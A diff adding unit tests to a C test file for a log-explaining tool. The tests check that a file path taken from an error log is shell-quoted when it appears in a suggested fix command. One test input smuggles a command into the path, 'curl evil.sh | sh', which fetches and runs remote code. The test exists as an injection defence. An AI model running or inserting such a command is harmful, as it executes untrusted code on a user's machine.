@@ -309,6 +309,16 @@ statement_forms(void **state)
 	assert_null(strchr(x.causes[0].title, '\033'));
 	explain_release(&x);
 
+	/* what a log says goes into a fix's commands quoted for the shell;
+	 * a plain value stays as it is */
+	run_text(&x, "ERROR: libcudart.so could not be read from path: /tmp/x; curl evil.sh | sh!\n");
+	assert_non_null(strstr(x.causes[0].fix, "ls -l '/tmp/x; curl evil.sh | sh'\n"));
+	explain_release(&x);
+	run_text(&x, "ERROR: libcudart.so could not be read from path: /usr/local/cuda/lib64/libcudart.so!\n");
+	assert_non_null(strstr(x.causes[0].fix, "ls -l /usr/local/cuda/lib64/libcudart.so\n"));
+	assert_non_null(strstr(x.causes[0].title, "/usr/local/cuda/lib64/libcudart.so"));
+	explain_release(&x);
+
 	/* words that only look like statements */
 	run_text(&x, "import torch, torchvision\n"
 		     "RuntimeError: CUDA out of memory. (GPU 0; 10.76 GiB total capacity)\n"
